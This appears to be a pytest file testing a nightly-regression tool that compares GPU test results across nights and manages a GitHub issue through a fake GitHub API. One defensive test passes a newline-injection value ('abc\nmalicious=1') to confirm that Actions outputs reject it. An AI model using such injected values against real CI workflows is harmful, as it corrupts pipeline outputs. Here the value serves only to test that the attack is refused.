        write_cell(tmp_path / "before", cell_id, "passed", {"t": "passed"})
    write_cell(tmp_path / "before", "ada-d", "errored", {}, error="timed out")  # errored both nights
    write_cell(tmp_path / "before", "ada-e", "errored", {}, error="timed out")  # no tests to compare with
    findings = regressions(tmp_path / "now", tmp_path / "before")
    assert [line.split(": unclosed token")[0] for line in findings] == [  # the XML parser's details vary
        "`ada-a` errored: pip: no matching distribution for torch==9",
        "`ada-b` errored: junit.xml: missing: pytest never wrote it (crash, kill or timeout)",
        "`ada-c` errored: junit.xml: malformed or truncated XML",
        f"`ada-e` `{T}` failed (no result the night before)",
    ]


def nightly(tmp_path: Path, results: Path, baseline: Path | None = None, *options: str) -> int:
    report = body_file(tmp_path, "| cell | result |\n| --- | --- |\n", "summary.md")
    argv = ["nightly-issue", "--results", str(results), "--report", str(report), "--sha", HEAD, *options]
    return gh(*argv, *(["--baseline", str(baseline)] if baseline else []))


def open_issue(fake: FakeGitHub) -> dict:
    return fake.add_issue("Nightly regression: nightly", "<!-- harness-nightly -->\nold",
                          ["nightly-regression"])


@pytest.fixture
def nightly_env(env, monkeypatch):
    monkeypatch.setenv("GITHUB_RUN_ID", "4242")
    monkeypatch.setenv("GITHUB_SERVER_URL", "https://github.com")
    return env


def test_a_regression_opens_one_labelled_issue(fake, nightly_env, tmp_path, capsys):
    before = cells(tmp_path, "before", t="passed")
    now = cells(tmp_path, "now", t="failed")
    assert nightly(tmp_path, now, before) == 0
    [issue] = fake.issues.values()
    assert issue["title"] == "Nightly regression: nightly"
    assert issue["labels"] == [{"name": "nightly-regression"}]
    assert issue["body"].startswith("<!-- harness-nightly -->\n"
                                    "New since last night: transformers 5.24.0 (unchanged); torch 2.13.0 "
                                    "(unchanged)\n\nNightly `nightly` on `6dcb09b5b578` "
                                    f"([run](https://github.com/{REPO}/actions/runs/4242)): "
                                    # 2 GPUs (env.json lists none: the cell's own count) x 20 min; no job timings
                                    "1 cell, 0.7 GPU-hours; compared with the night before:")
    assert f"- `{CELL}` `{T}` failed\n" in issue["body"]
    assert "| cell | result |" in issue["body"]
    assert capsys.readouterr().out.strip() == f"opened issue #{issue['number']}"


def test_a_flaky_test_is_no_regression_but_one_that_stays_red_is(fake, nightly_env, tmp_path):
    before = cells(tmp_path, "before", flaky_one="passed", red_one="passed")
    now = cells(tmp_path, "now", flaky_one="flaky", red_one="red")
    assert nightly(tmp_path, now, before) == 0
    [issue] = fake.issues.values()
    listing = issue["body"].split("\n\n")[2]  # after the release line and the head line
    assert listing == f"- `{CELL}` `tests/gpu/test_ep.py::red_one` failed"


def test_the_issue_lists_triages_new_reds_so_a_floating_release_is_one_story(fake, nightly_env, tmp_path):
    """transformers floated from 5.19 to 5.20: the cell id changed. Compared by id, the issue said "(no result the
    night before)" while triage of the same folders planned a 5.19 -> 5.20 bisect; it now lists triage's reds."""
    before, now = tmp_path / "before", tmp_path / "now"
    write_cell(before, "h200-2gpu-torch2.13.0-tf5.19.0", "passed", {"t": "passed"})
    write_cell(now, "h200-2gpu-torch2.13.0-tf5.20.0", "failed", {"t": "failed"})
    for folder, version in ((before, "5.19.0"), (now, "5.20.0")):
        env_file = next(folder.iterdir()) / "env.json"
        record = json.loads(env_file.read_text())
        record["cell"]["transformers"] = version
        env_file.write_text(json.dumps(record))
    triage_json, plan = tmp_path / "triage.json", tmp_path / "plan.json"
    assert cli.main(["triage", "--results", str(now), "--baseline", str(before), "-o", str(triage_json),
                 "--github-matrix", str(plan)]) == 0
    assert json.loads(plan.read_text())["include"][0]["good"] == "torch=2.13.0,transformers=5.19.0"
    assert nightly(tmp_path, now, before, "--triage-json", str(triage_json)) == 0
    [issue] = fake.issues.values()
    assert f"- `h200-2gpu-torch2.13.0-tf5.20.0` `{T}` real failure\n" in issue["body"]
    assert "no result the night before" not in issue["body"]


@pytest.mark.parametrize("with_triage", [True, False])
def test_the_issue_opens_with_the_new_release_then_its_new_reds_then_the_cases_by_class(fake, nightly_env, tmp_path,
                                                                                         with_triage):
    """transformers 5.25.0 came out: the issue says so first, then the new reds (each with its bisect's line), then
    tonight's cases by class and the known-bugs entries to close. A case fixed upstream is no regression, with
    triage.json or without (the same rules over the results)."""
    before, now = tmp_path / "before", tmp_path / "now"
    names = ("test_real[2]", "test_known[2]", "test_fixed[2]", "test_not_built[2]")
    write_night_cell(before, "2.13.0", "5.24.0", [case_xml(name, "passed") for name in names], status="passed")
    write_night_cell(now, "2.13.0", "5.25.0", [
        case_xml("test_real[2]", "failed", GRAD),
        case_xml("test_known[2]", "xfailed", "known upstream bug: x", known_bug="qwen3-eager-bias"),
        case_xml("test_fixed[2]", "failed", "[XPASS(strict)] fixed upstream", known_bug_fixed="mixtral-half-gradients"),
        case_xml("test_not_built[2]", "skipped", "not built: no layout", not_built="no layout"),
    ])
    options = []
    if with_triage:
        triage_json, bisects = tmp_path / "triage.json", tmp_path / "bisects"
        bisects.mkdir()
        line = "first bad: transformers 5.25.0 (last good 5.24.0) · test_real[2]"
        (bisects / "bisect.json").write_text(json.dumps({"cell": "h200-2gpu-torch2.13.0-tf5.25.0", "line": line}))
        assert cli.main(["triage", "--results", str(now), "--baseline", str(before), "--bisects", str(bisects),
                         "-o", str(triage_json)]) == 0
        options = ["--triage-json", str(triage_json)]
    assert nightly(tmp_path, now, before, *options) == 0
    [issue] = fake.issues.values()
    release, head, listing, cases, close = issue["body"].split("\n\n")[:5]
    assert release == ("<!-- harness-nightly -->\n"
                       "New since last night: transformers 5.24.0 → 5.25.0; torch 2.13.0 (unchanged)")
    assert head.startswith("Nightly `nightly` on `6dcb09b5b578`")
    red = "- `h200-2gpu-torch2.13.0-tf5.25.0` `tests/gpu/test_ep.py::test_real[2]` "
    assert listing == red + ("real failure · first bad: transformers 5.25.0 (last good 5.24.0) · test\\_real\\[2\\]"
                             if with_triage else "failed")
    assert cases == ("Tonight's 4 cases: 1 new red · 1 known, still present · 1 fixed upstream · 1 not built · "
                     "0 not run · 0 passed")
    assert close == "Fixed upstream, close the range of known-bugs entry `mixtral-half-gradients`."


def test_without_triage_the_issue_reads_the_same_rule_as_triage(fake, nightly_env, tmp_path):
    """The floating release of the test above, without --triage-json: the issue compares with the night before as
    triage does (results.compare.new_reds), so the cell of last night's transformers is the one compared with."""
    before, now = tmp_path / "before", tmp_path / "now"
    write_cell(before, "h200-2gpu-torch2.13.0-tf5.19.0", "passed", {"t": "passed", "u": "failed"})
    write_cell(now, "h200-2gpu-torch2.13.0-tf5.20.0", "failed", {"t": "failed", "u": "failed"})
    for folder, version in ((before, "5.19.0"), (now, "5.20.0")):
        env_file = next(folder.iterdir()) / "env.json"
        record = json.loads(env_file.read_text())
        record["cell"]["transformers"] = version
        env_file.write_text(json.dumps(record))
    assert nightly(tmp_path, now, before) == 0
    [issue] = fake.issues.values()
    assert f"- `h200-2gpu-torch2.13.0-tf5.20.0` `{T}` failed\n" in issue["body"]
    assert "no result the night before" not in issue["body"] and "::u`" not in issue["body"]  # u failed then too


def test_a_triage_file_that_is_not_triages_json_is_one_line_and_exit_2(fake, nightly_env, tmp_path, capsys):
    broken = tmp_path / "triage.json"
    broken.write_text('{"reds": [{"cell": 1}]}')
    now = cells(tmp_path, "now", t="failed")
    assert nightly(tmp_path, now, None, "--triage-json", str(broken)) == 2
    assert f"triage {broken}: a red needs 'cell' and 'class' strings" in capsys.readouterr().err


def test_memory_limits_come_from_the_command_line(fake, nightly_env, tmp_path):
    before = cells(tmp_path, "before", gpu_peak=1000.0, t="passed")
    now = cells(tmp_path, "now", gpu_peak=1100.0, t="passed", u="failed")
    assert nightly(tmp_path, now, before, "--memory-mib", "50", "--memory-percent", "5") == 0
    [issue] = fake.issues.values()
    assert f"- `{CELL}` GPU 0 peak used memory grew from 1,000 to 1,100 MiB (+10%)" in issue["body"]


def test_a_second_regression_updates_the_open_issue_and_comments_once(fake, nightly_env, tmp_path):
    issue = open_issue(fake)
    fake.add_issue("Something else", "<!-- harness-nightly -->\nnot labelled", [])
    before = cells(tmp_path, "before", t="passed", u="passed")
    now = cells(tmp_path, "now", t="failed", u="failed")
    assert nightly(tmp_path, now, before) == 0
    assert nightly(tmp_path, now, before) == 0  # the job re-run
    assert len(fake.issues) == 2 and f"`{T}` failed" in issue["body"]
    [comment] = fake.comments[issue["number"]]
    assert comment["body"].startswith("<!-- harness-nightly:4242 -->\nRegressed again on `6dcb09b5b578`")


def test_persisting_failures_refresh_the_issue_without_a_new_comment(fake, nightly_env, tmp_path):
    issue = open_issue(fake)
    both = cells(tmp_path, "now", t="failed")
    assert nightly(tmp_path, both, cells(tmp_path, "before", t="failed")) == 0
    assert "nothing new since the night before" in issue["body"] and fake.comments[issue["number"]] == []


def test_persisting_failures_without_an_open_issue_post_nothing(fake, nightly_env, tmp_path):
    both = cells(tmp_path, "now", t="failed")
    assert nightly(tmp_path, both, cells(tmp_path, "before", t="failed")) == 0
    assert fake.issues == {} and not fake.requests("POST")


def test_first_night_without_a_baseline_reports_every_failure(fake, nightly_env, tmp_path):
    now = cells(tmp_path, "now", t="failed")
    assert nightly(tmp_path, now, tmp_path / "baseline-not-downloaded") == 0
    [issue] = fake.issues.values()
    assert "compared with no earlier results" in issue["body"]
    assert "no result the night before" in issue["body"]


def test_green_night_closes_the_issue_with_a_comment(fake, nightly_env, tmp_path, capsys):
    issue = open_issue(fake)
    now = cells(tmp_path, "now", t="passed", s="skipped", f="flaky")
    assert nightly(tmp_path, now, cells(tmp_path, "before", t="failed")) == 0
    assert issue["state"] == "closed" and issue["state_reason"] == "completed"
    [comment] = fake.comments[issue["number"]]
    assert "All green again on `6dcb09b5b578`" in comment["body"]
    assert capsys.readouterr().out.strip() == f"closed issue #{issue['number']}"


def test_green_night_without_an_issue_posts_nothing(fake, nightly_env, tmp_path):
    fake.add_issue("Nightly regression: nightly", "<!-- harness-nightly -->\nold", ["nightly-regression"],
                   state="closed")
    fake.add_issue("Nightly regression: nightly", "<!-- harness-nightly -->\nby hand", ["nightly-regression"],
                   login="someone")
    assert nightly(tmp_path, cells(tmp_path, "now", t="passed")) == 0
    assert not fake.requests("POST") and not fake.requests("PATCH")


def test_nightly_needs_results(env, tmp_path, capsys):
    (tmp_path / "empty").mkdir()
    assert nightly(tmp_path, tmp_path / "empty") == 2
    assert "no cell folders" in capsys.readouterr().err


# --------------------------------------------------------------------------- small pieces


def test_gh_imports_only_the_standard_library():
    """ok-to-test.yml runs `python3 -m harness gh ...` from a checkout with nothing installed; the
    commands that read results import harness.results and harness.report.render (jinja2) late."""
    missing = ("jinja2", "junitparser", "markupsafe", "yaml")
    code = f"import sys; sys.modules.update(dict.fromkeys({missing!r})); import harness.github.command"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert done.returncode == 0, done.stderr


def test_outputs_refuse_values_that_would_add_lines(env):
    with pytest.raises(GitHubError, match="unexpected characters"):
        actions_io.write_outputs({"sha": "abc\nmalicious=1"})
    assert env.read_text() == ""


def test_fit_body_leaves_short_bodies_alone():
    assert github_comments.fit_body("short") == "short"
    cut = github_comments.fit_body("line\n" * 100, limit=200)
    assert len(cut) <= 200 and cut.startswith("line\nline\n")
